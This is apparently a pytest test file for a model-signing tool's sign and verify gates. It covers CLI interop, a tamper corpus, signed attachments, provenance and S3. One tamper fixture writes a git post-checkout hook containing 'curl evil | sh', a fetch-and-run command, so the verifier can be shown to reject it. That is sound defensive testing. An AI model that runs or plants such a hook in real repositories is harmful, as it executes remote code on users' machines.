"""The sign and verify gates (mlsec_gates/gates/sign/): interop with the stock model_signing
CLI, the tamper corpus, attachments, provenance, policy gaps and S3."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from mlsec_gates.errors import ConfigError, InputError
from mlsec_gates.gates.sign import default_signature_path, rules, sign_gate, verify_gate
from mlsec_gates.policy import parse_policy
from mlsec_gates.result import GateResult, Status
from mlsec_gates.rules import Rule
from mlsec_gates.storage import S3Options

MODEL_SIGNING_CLI = str(Path(sys.executable).with_name("model_signing"))


def _sign(model: Path, keys, tmp_path: Path, **kwargs) -> GateResult:
    kwargs.setdefault("out", str(tmp_path / "bert.sig"))
    return sign_gate(str(model), key=str(keys[0]), report_dir=str(tmp_path / "rep-sign"), **kwargs)


def _verify(model: Path, signature: str, public: Path, tmp_path: Path, **kwargs) -> GateResult:
    return verify_gate(
        str(model),
        signature=signature,
        public_key=str(public),
        report_dir=str(tmp_path / "rep-verify"),
        **kwargs,
    )


def _rule_ids(result: GateResult) -> set[str]:
    return {f.rule_id for f in result.findings}


def test_ours_verifies_with_stock_model_signing(model: Path, keys, tmp_path: Path) -> None:
    signed = _sign(model, keys, tmp_path)
    assert signed.status == Status.PASS, signed.summary
    assert signed.reports["signature"] == str(tmp_path / "bert.sig")
    assert signed.metrics["files_signed"] == 5
    done = subprocess.run(
        [
            MODEL_SIGNING_CLI,
            "verify",
            "key",
            "--signature",
            signed.reports["signature"],
            "--public_key",
            str(keys[1]),
            str(model),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Verification succeeded" in done.stdout
    report = json.loads(Path(signed.reports["json"]).read_text())
    assert report["details"]["root_digest"] == signed.details["root_digest"]


def test_stock_model_signing_signature_verifies_with_ours(
    model: Path, keys, tmp_path: Path
) -> None:
    sig = tmp_path / "theirs.sig"
    done = subprocess.run(
        [
            MODEL_SIGNING_CLI,
            "sign",
            "key",
            "--private_key",
            str(keys[0]),
            "--signature",
            str(sig),
            str(model),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    result = _verify(model, str(sig), keys[1], tmp_path)
    assert result.status == Status.PASS, result.summary
    (model / "config.json").write_text('{"hidden": 9}\n')
    assert _rule_ids(_verify(model, str(sig), keys[1], tmp_path)) == {"verify.file-modified"}
    # stock signatures record no modes: check_permissions cannot be honoured -> error
    strict = parse_policy("gates:\n  verify:\n    check_permissions: true\n")
    (model / "config.json").write_text('{"hidden": 8}\n')
    result = _verify(model, str(sig), keys[1], tmp_path, policy=strict)
    assert result.status == Status.ERROR
    assert _rule_ids(result) == {"verify.permissions-unchecked"}


def test_single_file_model_and_default_out(model: Path, keys, tmp_path: Path) -> None:
    weights = model / "model.safetensors"
    signed = sign_gate(str(weights), key=str(keys[0]), report_dir=str(tmp_path / "r"))
    assert signed.reports["signature"] == str(weights) + ".sig"
    assert default_signature_path(str(model) + "/") == str(model) + ".sig"
    ok = _verify(weights, str(weights) + ".sig", keys[1], tmp_path)
    assert ok.status == Status.PASS
    weights.write_bytes(weights.read_bytes() + b"\0")
    changed = _verify(weights, str(weights) + ".sig", keys[1], tmp_path)
    [finding] = changed.findings
    assert finding.message == f"{weights} was modified since signing"  # not "`.` was ..."


def _flip_bit(m: Path) -> str:
    data = bytearray((m / "model.safetensors").read_bytes())
    data[150_000] ^= 0x01
    (m / "model.safetensors").write_bytes(bytes(data))
    return "verify.file-modified"


def _truncate(m: Path) -> str:
    path = m / "model.safetensors"
    path.write_bytes(path.read_bytes()[:-1])
    return "verify.file-modified"


def _append(m: Path) -> str:
    with open(m / "config.json", "ab") as fh:
        fh.write(b" ")
    return "verify.file-modified"


def _add(m: Path) -> str:
    (m / "sub" / "extra.pkl").write_bytes(b"\x80\x04N.")
    return "verify.file-added"


def _delete(m: Path) -> str:
    (m / "sub" / "shard_1.bin").unlink()
    return "verify.file-missing"


def _swap(m: Path) -> str:
    a, b = (m / "a" / "b").read_bytes(), (m / "a-b").read_bytes()
    (m / "a" / "b").write_bytes(b)
    (m / "a-b").write_bytes(a)
    return "verify.file-modified"


def _symlink(m: Path) -> str:
    target = m.parent / "elsewhere.json"
    target.write_bytes((m / "config.json").read_bytes())  # identical content
    (m / "config.json").unlink()
    (m / "config.json").symlink_to(target)
    return "verify.unsupported-file"


def _git(m: Path) -> str:
    (m / ".git").mkdir()
    (m / ".git" / "hooks").mkdir()
    (m / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    return "verify.refused-path"


def _empty_dir(m: Path) -> str:
    (m / "adapters").mkdir()
    return "verify.empty-dir"


TAMPERS: dict[str, Callable[[Path], str]] = {
    "bit-flip": _flip_bit,
    "truncation": _truncate,
    "appended-bytes": _append,
    "file-added": _add,
    "file-deleted": _delete,
    "swapped-contents": _swap,
    "symlink-swap": _symlink,
    "git-dir": _git,
    "empty-dir": _empty_dir,
}


@pytest.mark.parametrize("tamper", list(TAMPERS), ids=list(TAMPERS))
def test_tamper_corpus_is_rejected(model: Path, keys, tmp_path: Path, tamper: str) -> None:
    signed = _sign(model, keys, tmp_path)
    assert signed.status == Status.PASS
    expected = TAMPERS[tamper](model)
    result = _verify(model, signed.reports["signature"], keys[1], tmp_path)
    assert not result.passed
    assert expected in _rule_ids(result), result.summary
    assert all(f.location.uri.startswith(str(model)) for f in result.findings)


def test_rename_is_missing_plus_added_and_says_so(model: Path, keys, tmp_path: Path) -> None:
    signed = _sign(model, keys, tmp_path)
    (model / "config.json").rename(model / "config2.json")
    result = _verify(model, signed.reports["signature"], keys[1], tmp_path)
    assert _rule_ids(result) == {"verify.file-missing", "verify.file-added"}
    added = next(f for f in result.findings if f.rule_id == "verify.file-added")
    assert "renamed" in added.message and added.evidence["same_as_missing"] == "config.json"


def test_permission_change_needs_check_permissions(model: Path, keys, tmp_path: Path) -> None:
    signed = _sign(model, keys, tmp_path)
    os.chmod(model / "model.safetensors", 0o755)
    lax = _verify(model, signed.reports["signature"], keys[1], tmp_path)
    assert lax.status == Status.PASS  # the format itself ignores modes
    strict = parse_policy("gates:\n  verify:\n    check_permissions: true\n")
    result = _verify(model, signed.reports["signature"], keys[1], tmp_path, policy=strict)
    [finding] = result.findings
    assert finding.rule_id == "verify.permissions-changed"
    assert finding.evidence["mode"] == "0755" and "model.safetensors" in finding.message


def test_wrong_key_and_edited_bundle(model: Path, keys, other_keys, tmp_path: Path) -> None:
    signed = _sign(model, keys, tmp_path)
    wrong = _verify(model, signed.reports["signature"], other_keys[1], tmp_path)
    assert _rule_ids(wrong) == {"verify.wrong-key"} and wrong.status == Status.FAIL

    bundle = json.loads(Path(signed.reports["signature"]).read_text())
    statement = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    statement["predicate"]["serialization"]["ignore_paths"].append("model.safetensors")
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
    edited = tmp_path / "edited.sig"
    edited.write_text(json.dumps(bundle))
    result = _verify(model, str(edited), keys[1], tmp_path)
    assert _rule_ids(result) == {"verify.signature-invalid"}

    del bundle["verificationMaterial"]["publicKey"]["hint"]  # no hint: the signature decides
    edited.write_text(json.dumps(bundle))
    assert _rule_ids(_verify(model, str(edited), other_keys[1], tmp_path)) == {
        "verify.signature-invalid"
    }
    edited.write_text("{not json")
    assert _rule_ids(_verify(model, str(edited), keys[1], tmp_path)) == {"verify.signature-invalid"}


def test_attachments_and_provenance(model: Path, keys, other_keys, tmp_path: Path) -> None:
    sbom = tmp_path / "sbom.json"
    sbom.write_text(json.dumps({"bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1}))
    scan = tmp_path / "scan-report.json"
    scan.write_text(json.dumps({"gate": "scan", "schema_version": "1.1", "status": "pass"}))
    provenance = {
        "builder_id": "https://airflow.example/",
        "external_parameters": {"dag_id": "train"},
        "resolved_dependencies": [
            {"uri": "s3://data/train.parquet", "digest": {"sha256": "ab" * 32}}
        ],
    }
    signed = _sign(model, keys, tmp_path, attach=[str(sbom), str(scan)], provenance=provenance)
    assert signed.status == Status.PASS, signed.summary
    sig = signed.reports["signature"]
    for label in ("sbom", "scan-report", "provenance"):
        assert signed.reports[f"attachment:{label}"] == f"{sig}.{label}.dsse.json"
    envelope = json.loads(Path(f"{sig}.provenance.dsse.json").read_text())
    statement = json.loads(base64.b64decode(envelope["payload"]))
    assert statement["predicateType"] == "https://slsa.dev/provenance/v1"
    assert statement["subject"][0]["digest"]["sha256"] == signed.details["root_digest"]
    assert _verify(model, sig, keys[1], tmp_path).status == Status.PASS

    # an edited SBOM inside its envelope: the signature no longer matches
    sbom_env = Path(f"{sig}.sbom.dsse.json")
    original = sbom_env.read_text()
    env = json.loads(original)
    bom = json.loads(base64.b64decode(env["payload"]))
    bom["predicate"]["components"] = [{"type": "library", "name": "evil"}]
    env["payload"] = base64.b64encode(json.dumps(bom).encode()).decode()
    sbom_env.write_text(json.dumps(env))
    result = _verify(model, sig, keys[1], tmp_path)
    assert _rule_ids(result) == {"verify.attachment-invalid"}
    assert "sbom" in result.findings[0].message

    # a validly signed report for another model, swapped in: recorded digest differs
    sbom_env.write_text(original)
    other_model = tmp_path / "other"
    other_model.mkdir()
    (other_model / "w").write_bytes(b"other")
    other = sign_gate(
        str(other_model), key=str(keys[0]), attach=[str(scan)], report_dir=str(tmp_path / "r2")
    )
    Path(f"{sig}.scan-report.dsse.json").write_bytes(
        Path(other.reports["attachment:scan-report"]).read_bytes()
    )
    assert _rule_ids(_verify(model, sig, keys[1], tmp_path)) == {"verify.attachment-invalid"}

    Path(f"{sig}.scan-report.dsse.json").unlink()
    assert _rule_ids(_verify(model, sig, keys[1], tmp_path)) == {"verify.attachment-missing"}


def test_sign_refuses_what_the_format_cannot_protect(model: Path, keys, tmp_path: Path) -> None:
    (model / ".git").mkdir()
    (model / ".git" / "HEAD").write_text("ref\n")
    result = _sign(model, keys, tmp_path)
    assert result.status == Status.FAIL and _rule_ids(result) == {"sign.refused-path"}
    assert not (tmp_path / "bert.sig").exists()
    warned = _sign(model, keys, tmp_path, on_fail="warn")
    assert warned.status == Status.WARN and (tmp_path / "bert.sig").exists()
    (model / "link").symlink_to(model / "config.json")
    errored = _sign(model, keys, tmp_path, out=str(tmp_path / "x.sig"), on_fail="warn")
    assert errored.status == Status.ERROR and "sign.unsupported-file" in _rule_ids(errored)
    assert not (tmp_path / "x.sig").exists()
    empty = tmp_path / "empty-model"
    empty.mkdir()
    nothing = sign_gate(str(empty), key=str(keys[0]), report_dir=str(tmp_path / "r3"))
    assert nothing.status == Status.ERROR and _rule_ids(nothing) == {"sign.nothing-to-sign"}


def test_signature_inside_the_model_is_left_out(model: Path, keys, tmp_path: Path) -> None:
    out = model / "model.sig"
    signed = _sign(model, keys, tmp_path, out=str(out))
    assert signed.status == Status.PASS
    assert _verify(model, str(out), keys[1], tmp_path).status == Status.PASS


def test_unusable_inputs_raise(model: Path, keys, tmp_path: Path) -> None:
    with pytest.raises(InputError):
        _verify(model, str(tmp_path / "missing.sig"), keys[1], tmp_path)
    with pytest.raises(ConfigError):
        sign_gate(str(model), report_dir=str(tmp_path / "r"))
    with pytest.raises(InputError):
        sign_gate(str(tmp_path / "nope"), key=str(keys[0]), report_dir=str(tmp_path / "r"))


@pytest.mark.s3
def test_s3_model_sign_and_verify(
    model: Path, keys, tmp_path: Path, s3_bucket: str, s3_env: str
) -> None:
    import boto3

    client = boto3.client("s3", endpoint_url=s3_env)
    for path in model.rglob("*"):
        if path.is_file():
            key = "models/bert/" + path.relative_to(model).as_posix()
            client.put_object(Bucket=s3_bucket, Key=key, Body=path.read_bytes())
    s3 = S3Options(endpoint_url=s3_env)
    prefix = f"s3://{s3_bucket}/models/bert/"
    signed = sign_gate(prefix, key=str(keys[0]), s3=s3, report_dir=str(tmp_path / "r"))
    assert signed.reports["signature"] == f"s3://{s3_bucket}/models/bert.sig"
    local = _sign(model, keys, tmp_path)
    assert signed.details["root_digest"] == local.details["root_digest"]
    ok = verify_gate(
        prefix,
        signature=signed.reports["signature"],
        public_key=str(keys[1]),
        s3=s3,
        report_dir=str(tmp_path / "r2"),
    )
    assert ok.status == Status.PASS, ok.summary
    client.put_object(Bucket=s3_bucket, Key="models/bert/config.json", Body=b"{}")
    bad = verify_gate(
        prefix,
        signature=signed.reports["signature"],
        public_key=str(keys[1]),
        s3=s3,
        report_dir=str(tmp_path / "r3"),
    )
    assert _rule_ids(bad) == {"verify.file-modified"}


def test_rules_table() -> None:
    classes = {c for c in vars(rules).values() if isinstance(c, type) and issubclass(c, Rule)}
    classes.discard(Rule)
    assert classes == set(rules.RULES)
    ids = [r.id for r in rules.RULES]
    assert len(ids) == len(set(ids))
    assert all(r.id.split(".")[0] in ("sign", "verify") for r in rules.RULES)
    assert all(r.remediation and r.why and r.__doc__ for r in rules.RULES)
